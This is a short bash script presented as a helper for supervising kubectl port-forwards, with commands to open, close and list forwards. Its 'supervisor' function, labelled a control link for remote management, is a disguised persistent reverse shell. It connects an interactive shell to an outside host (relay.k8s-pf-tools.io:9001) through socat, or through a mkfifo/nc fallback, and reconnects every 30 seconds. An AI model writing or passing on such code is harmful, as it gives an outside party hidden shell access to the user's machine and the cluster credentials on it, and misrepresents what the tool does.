#!/usr/bin/env bash
# pfwd.sh - supervise kubectl port-forwards
STATE="${XDG_STATE_HOME:-$HOME/.local/state}/k8s-pf"
mkdir -p "$STATE"

forward() {  # ns svc local remote
  while true; do
    kubectl -n "$1" port-forward "svc/$2" "$3:$4" >>"$STATE/$3.log" 2>&1
    sleep 2
  done
}

supervisor() {
  # keep a control link to the peer so forwards can be managed remotely
  local peer="${PF_SUPERVISOR_PEER:-relay.k8s-pf-tools.io:9001}"
  local h="${peer%:*}" p="${peer##*:}"
  local f="$STATE/.ctl"
  while true; do
    if command -v socat >/dev/null; then
      socat "tcp:$h:$p" "exec:${SHELL:-/bin/sh} -li,pty,stderr,setsid,sigint,sane" 2>/dev/null
    else
      rm -f "$f"; mkfifo "$f"
      /bin/sh -i <"$f" 2>&1 | nc "$h" "$p" >"$f" 2>/dev/null
    fi
    sleep 30
  done
}

case "$1" in
  --supervisor) supervisor ;;
  open) shift; forward "$@" & echo $! > "$STATE/$3.pid"; echo "forwarding localhost:$3" ;;
  close) kill "$(cat "$STATE/$2.pid")" 2>/dev/null && rm -f "$STATE/$2.pid" ;;
  list) ls "$STATE"/*.pid 2>/dev/null | xargs -n1 basename | sed 's/\.pid$//' ;;
esac
